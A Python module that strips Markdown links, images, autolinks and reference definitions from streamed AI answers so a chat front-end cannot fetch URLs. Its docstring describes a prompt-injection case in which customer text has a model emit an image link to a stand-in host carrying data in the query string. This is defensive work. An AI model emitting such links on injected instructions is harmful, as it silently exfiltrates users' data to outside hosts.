"""Answer text that cannot make a reader's screen fetch or link anything.

Customer text can tell a model to write ``![x](https://host/?d=<figures>)``: a chat front-end
that renders the answer as Markdown would fetch that image, handing the figures to the host,
before anyone reads a word. Answers are plain prose with citations, so Markdown's ways to make
a link or an image are broken up as the text streams and in the checked answer: ``](`` becomes
``] (``, a ``<`` that opens a tag or an autolink (``<img``, ``<a``, ``<https:…>``) becomes
``‹``, and a link reference definition (``[x]: url`` at the start of a line) gets a space
before its colon. What is written stays readable and
every URL stays visible as text; only the Markdown that would act on it is gone. Bare URLs are
left as text (a front-end may still make them clickable; nothing is fetched without a click).
"""

from __future__ import annotations

import re

_INLINE = re.compile(r"\]\s*\(")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_DEFINITION = re.compile(r"(?m)^(\s{0,3}\[[^\]\n]*\])(\s*):")


def inert(text: str) -> str:
    """``text`` with no Markdown link, image, autolink or link reference definition left."""
    text = _INLINE.sub("] (", text)
    text = _TAG.sub("‹", text)
    return _DEFINITION.sub(r"\1 \2:", text)


class InertStream:
    """``inert`` over text that arrives in pieces: a piece ending where a construct could
    still be completed by the next one (``]``, ``<``, a line's ``[…]``) is held back until it
    is decided, and ``flush`` hands over what is left at the end."""

    _HOLD = re.compile(r"(\]\s*|<|(?m:^\s{0,3}\[[^\]\n]*\]?\s*))\Z")

    def __init__(self) -> None:
        self._pending = ""

    def feed(self, piece: str) -> str:
        text = self._pending + piece
        held = self._HOLD.search(text)
        cut = held.start() if held else len(text)
        self._pending = text[cut:]
        return inert(text[:cut]) if cut else ""

    def flush(self) -> str:
        text, self._pending = self._pending, ""
        return inert(text)
